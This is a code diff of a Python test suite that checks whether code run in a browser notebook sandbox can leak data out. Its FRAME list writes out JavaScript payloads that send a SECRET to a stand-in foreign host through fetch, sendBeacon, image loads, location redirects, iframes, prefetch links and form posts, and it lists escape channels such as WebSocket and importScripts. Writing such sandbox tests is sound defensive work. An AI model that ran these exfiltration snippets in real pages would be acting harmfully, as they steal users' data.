@@ -12,7 +12,7 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 from browser import find_firefox
-from escapes import BEFORE, ENDS, HEAVY, TAMPERED, programs
+from escapes import ENDS, HEAVY, TAMPERED, TRIED, program, programs
 
 from conftest import Handler, Server
 from nnbook.lab.exercises import EXERCISES
@@ -36,6 +36,7 @@ globalThis.MessageChannel = class extends Channel {
     });
   }
 };
+await (await caches.open("kept")).put(at("kept"), new Response("as it was"));
 globalThis.came = { messages: 0, longest: 0 };
 addEventListener("message", () => { came.longest = Infinity; });
 const { default: open } = await import(at("_static/widgets/runtime.js"));
@@ -63,10 +64,11 @@ globalThis.stored = async () => {
   const files = [];
   for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
   return {
-    kept, files, cookies: document.cookie, local: { ...localStorage }, session: { ...sessionStorage },
+    kept, files, cookies: document.cookie,
+    local: { ...localStorage }, session: { ...sessionStorage },
     bases: await indexedDB.databases(), locks: (await navigator.locks.query()).held,
-    lasting: await navigator.storage.persisted(), text: document.body.innerHTML.replace(/<iframe.*?<.iframe>/g, ""),
-    addresses: [location.href, document.title],
+    lasting: await navigator.storage.persisted(),
+    text: document.querySelector("article").innerHTML, at: [location.href, document.title],
   };
 };
 """
@@ -98,23 +100,22 @@ user_pref("datareporting.policy.dataSubmissionEnabled", false);
 """
 # As if somebody had got hold of the frame that the threads are in.
 FRAME = [
-    "location = `${FOREIGN}/?${SECRET}`",
-    "location = `${SITE}/index.html?${SECRET}`",
-    "top.location = `${FOREIGN}/?${SECRET}`",
-    "parent.location = `${FOREIGN}/?${SECRET}`",
-    "top.document.body.innerHTML = SECRET",
-    "parent.document.body.innerHTML = SECRET",
-    "open(`${FOREIGN}/?${SECRET}`)",
-    "localStorage.a = SECRET",
-    "document.cookie = `a=${SECRET}`",
-    "fetch(`${FOREIGN}/?${SECRET}`)",
-    "navigator.sendBeacon(`${FOREIGN}/`, SECRET)",
-    "new Image().src = `${FOREIGN}/?${SECRET}`",
+    *("location = `${FOREIGN}/?${SECRET}`", "location = `${SITE}/index.html?${SECRET}`"),
+    *("top.location = `${FOREIGN}/?${SECRET}`", "parent.location = `${FOREIGN}/?${SECRET}`"),
+    *("top.document.body.innerHTML = SECRET", "parent.document.body.innerHTML = SECRET"),
+    *("localStorage.a = SECRET", "document.cookie = `a=${SECRET}`", "alert(SECRET)"),
+    *("fetch(`${FOREIGN}/?${SECRET}`)", "navigator.sendBeacon(`${FOREIGN}/`, SECRET)"),
+    *("open(`${FOREIGN}/?${SECRET}`)", "new Image().src = `${FOREIGN}/?${SECRET}`"),
     "document.body.append(Object.assign(document.createElement('iframe'), { src: `${FOREIGN}/` }))",
     "document.body.append(Object.assign(document.createElement('iframe'), { src: `${SITE}/` }))",
-    "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: `${FOREIGN}/` }))",
-    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${FOREIGN}/` }))",
-    "const form = document.createElement('form'); form.action = `${FOREIGN}/`; document.body.append(form); form.submit()",
+    """document.head.append(Object.assign(document.createElement('link'),
+      { rel: 'preload', as: 'fetch', href: `${FOREIGN}/` }))""",
+    """document.head.append(Object.assign(document.createElement('link'),
+      { rel: 'prefetch', href: `${FOREIGN}/` }))""",
+    """const form = document.createElement('form');
+       form.action = `${FOREIGN}/`;
+       document.body.append(form);
+       form.submit()""",
 ]
 PAGE = "framework.html"
 MINUTE, SETTLED = 60_000, 300  # ms
@@ -124,25 +125,13 @@ WORKS = {"output": "42\n", "error": None, "done": 1}
 # A new Python is fetched and kept; all else stays.
 UNMOVED = ("cookies", "neighbour", "pages", "foreign")
 # Some of those that get out of a room without a lock.
-OUT = {
-    "fetch",
-    "fetch, in a thread",
-    "fetch of a prototype",
-    "XMLHttpRequest, in a thread",
-    "WebSocket",
-    "EventSource",
-    "import()",
-    "import in a blob",
-    "importScripts",
-    "thread from a blob",
-    "caches",
-    "IndexedDB, in a thread",
-    "private files",
-    "BroadcastChannel",
-    "js",
-    "run_js",
-    "open_url",
-}
+OUT = [
+    *("fetch, in a thread", "fetch of a prototype", "fetch of the site, in a thread"),
+    *("XMLHttpRequest", "import()", "import in a blob", "importScripts", "thread from a blob"),
+    *("thread from the site", "open_url", "caches", "deleted caches", "IndexedDB"),
+    *("private files", "BroadcastChannel", "locks", "pyodide_js, its store"),
+    *("WebSocket", "EventSource", "WebTransport"),  # which try again: the last ones
+]
 
 
 class Foreign:
@@ -178,7 +167,7 @@ class Noting(Handler):
     locked = True
     script = ""
 
-    def do_GET(self) -> None:
+    def do_GET(self) -> None:  # noqa: N802 - its name there
         name = self.path.split("?")[0].split("/")[-1]
         self.asked.append(self.path)
         if name == "room.htm" and not self.locked:
@@ -191,7 +180,7 @@ class Noting(Handler):
         else:
             super().do_GET()
 
-    def do_POST(self) -> None:
+    def do_POST(self) -> None:  # noqa: N802 - its name there
         self.asked.append(self.path)
         self.told.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
         self._send("")
@@ -220,9 +209,7 @@ class Place:
 
     def cells(self, code: str) -> dict[str, Any]:
         """What `run_cells` is asked for."""
-        before = BEFORE.replace("[site]", self.server.address)
-        before = before.replace("[foreign]", self.foreign.address)
-        return {"cells": [f"{before}\n{code}\n;None"]}
+        return {"cells": [program(code, self.server.address, self.foreign.address)]}
 
     def stop(self) -> None:
         self.server.stop()
@@ -234,7 +221,7 @@ class Opened:
 
     def __init__(self, browser: "Browser", place: Place) -> None:
         self.place = place
-        self.context = browser.new_context()
+        self.context = browser.new_context(service_workers="block")
         self.answered: list[str] = []  # by whomever, as the browser itself tells
         self.context.on("response", lambda response: self.answered.append(response.url))
         self.neighbour = self.context.new_page()
@@ -243,7 +230,6 @@ class Opened:
         self.page = self.context.new_page()
         self.page.set_default_timeout(MINUTE)
         self.page.goto(f"{place.server.address}/{PAGE}")
-        self.page.evaluate("navigator.serviceWorker.ready.then(() => true)")
         self.page.evaluate(f"async () => {{ {HARNESS} }}")
 
     def call(self, name: str, **args: Any) -> dict[str, Any]:
@@ -268,15 +254,6 @@ class Opened:
             "asked": list(self.place.asked),
             "answered": left,
         }
-
-    def settled(self) -> dict[str, Any]:
-        """The same, once the service worker has stored what it wants to."""
-        seen = self.seen()
-        while True:
-            self.page.wait_for_timeout(SETTLED)
-            before, seen = seen, self.seen()
-            if before == seen:
-                return seen
 
     def works(self) -> dict[str, Any]:
         return self.call("run_cells", cells=["6 * 7"])
@@ -306,12 +283,12 @@ def before(opened: Opened) -> dict[str, Any]:
     """What there is before a program runs, in a Python that works."""
     while opened.works() != WORKS:  # what ended the one before was told to it
         pass
-    return opened.settled()
+    return opened.seen()
 
 
 @pytest.mark.parametrize("name", programs())
 def test_nothing_gets_out(opened: Opened, before: dict[str, Any], name: str) -> None:
-    opened.program(programs()[name])
+    assert opened.program(programs()[name])["output"] == TRIED
     assert opened.seen() == before
     messages, longest = opened.came()
     assert messages <= MESSAGES
@@ -333,7 +310,7 @@ def test_what_ends_a_program_is_said_and_the_next_one_runs(
     assert said["failure"] == kind
     assert "再按一次，就从新的 Python 开始" in said["words"]
     assert opened.works() == WORKS
-    after = opened.settled()
+    after = opened.seen()
     assert {name: after[name] for name in UNMOVED} == {name: before[name] for name in UNMOVED}
 
 
@@ -379,12 +356,12 @@ def test_without_the_lock_they_would_get_out(
     place = Place(site, tmp_path, locked=False)
     opened = Opened(browser, place)
     assert opened.works() == WORKS
-    out = set()
+    out = []
     for name in OUT:
-        before = opened.settled()
+        before = opened.seen()
         opened.program(programs()[name])
         if opened.seen() != before:
-            out.add(name)
+            out.append(name)
     opened.context.close()
     place.stop()
     assert out == OUT
@@ -406,7 +383,8 @@ def test_nothing_gets_out_of_firefox(site: Path, tmp_path: Path) -> None:
         tmp_path / "profile",
         address,
     ]
-    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as firefox:
+    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
+    with subprocess.Popen(command, **quiet) as firefox:  # noqa: S603 - found or named
         try:
             begun = place.told.get(timeout=2 * MINUTE / 1000)
             told = {name: place.told.get(timeout=3 * MINUTE / 1000) for name in cells}
